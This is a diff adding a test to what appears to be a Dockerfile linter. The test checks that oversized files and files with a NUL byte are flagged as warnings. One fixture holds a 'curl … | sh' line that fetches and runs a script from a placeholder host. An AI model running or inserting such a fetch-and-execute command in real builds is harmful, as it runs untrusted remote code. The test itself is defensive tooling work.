@@ -24,3 +24,18 @@ test('a Dockerfile that hides curl | sh under 800 nested $( fails `lint --fail-o
     fs.rmSync(dir, { recursive: true, force: true });
   }
 });
+
+test('a file too large to analyse, or one with a NUL byte, is a warning that fails `lint --fail-on warning`', () => {
+  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'dockyard-limits-'));
+  try {
+    // 9 MB: under the 20 MB limit of other files, over the 8 MB limit of Dockerfiles.
+    fs.writeFileSync(path.join(dir, 'Dockerfile'), 'FROM debian:12\n' + 'RUN echo x\n'.repeat(860_000));
+    fs.writeFileSync(path.join(dir, 'Containerfile'), 'FROM debian:12\n# a NUL \u0000 in a comment\nRUN curl -fsSL https://x.example/i.sh | sh\n');
+    const r = spawnSync(process.execPath, [path.join(ROOT, 'dist/cli.js'), 'lint', '--fail-on', 'warning', '--format', 'json', dir], { encoding: 'utf8' });
+    assert.equal(r.status, 1, r.stderr);
+    const byFile = Object.fromEntries(JSON.parse(r.stdout).files.map((f: { path: string; diagnostics: { rule: string; severity: string }[] }) => [path.basename(f.path), f.diagnostics.map((d) => `${d.rule}:${d.severity}`)]));
+    assert.deepEqual(byFile, { Containerfile: ['binary-file:warning'], Dockerfile: ['file-too-large:warning'] });
+  } finally {
+    fs.rmSync(dir, { recursive: true, force: true });
+  }
+});
